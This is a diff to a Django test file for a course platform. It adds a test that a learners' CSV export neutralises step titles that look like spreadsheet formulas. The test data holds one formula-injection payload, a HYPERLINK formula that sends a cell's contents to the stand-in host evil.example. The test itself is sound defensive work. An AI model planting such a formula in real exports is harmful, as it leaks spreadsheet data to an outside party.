@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -469,6 +472,21 @@ def test_learners_table_shows_progress_in_constant_queries(client, owner, django
         response = client.get(reverse("courses:authoring_learners", args=[course.slug]))
     page = response.content.decode()
     assert "Amal5" in page and "80 %" in page
+
+
+def test_learners_csv_header_neutralises_step_titles_that_look_like_formulas(client, owner):
+    # given a step whose title a spreadsheet would run as a formula
+    course = build_course(modules=1, steps_per_module=2, owner=owner)
+    step = Step.objects.filter(module__course=course).order_by("position").first()
+    step.title = '=HYPERLINK("http://evil.example/?"&A2;"Voir")'
+    step.save(update_fields=["title"])
+    client.force_login(owner)
+    # when the trainer downloads the learners' CSV
+    response = client.get(reverse("courses:authoring_learners_csv", args=[course.slug]))
+    # then the header cell is plain text
+    header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert '\'=HYPERLINK("http://evil.example/?"&A2;"Voir")' in header
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)
 
 
 def test_learners_csv_lists_each_learner_with_percent(client, owner):
